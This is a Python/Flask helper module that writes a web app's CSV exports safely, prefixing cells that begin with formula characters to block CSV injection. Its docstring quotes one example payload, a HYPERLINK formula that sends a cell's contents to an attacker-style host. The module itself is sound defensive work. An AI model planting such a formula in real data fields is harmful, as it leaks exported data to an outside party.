"""Every CSV the web serves is written here, with formula cells neutralised (CSV injection).

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return before
one) as a formula: a complaint title such as `=HYPERLINK("http://evil.example/?x="&A1,"Klik")` would
run when an operator opens the export. Such text cells get a leading apostrophe, which spreadsheets
show as plain text. Numbers, and text that is only a number (a phone number "+62812…", "-3"), stay as
they are.
"""

from __future__ import annotations

import csv
import io
import re
from typing import Any, Iterable, Sequence

from flask import Response

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?[\d][\d .,]*")
CONTENT_TYPE = "text/csv; charset=utf-8"


def safe_cell(value: Any) -> Any:
    """The value, with text that a spreadsheet would run as a formula made inert."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]], *, bom: bool = False) -> str:
    """CSV of the header and rows, every cell passed through `safe_cell`; a BOM for Excel when asked."""
    out = io.StringIO()
    if bom:
        out.write("\ufeff")
    writer = csv.writer(out)
    writer.writerow([safe_cell(h) for h in header])
    writer.writerows([safe_cell(v) for v in row] for row in rows)
    return out.getvalue()


def csv_response(text: str, filename: str) -> Response:
    """A CSV download with one correct Content-Type."""
    return Response(text, content_type=CONTENT_TYPE, headers={"Content-Disposition": f'attachment; filename="{filename}"'})
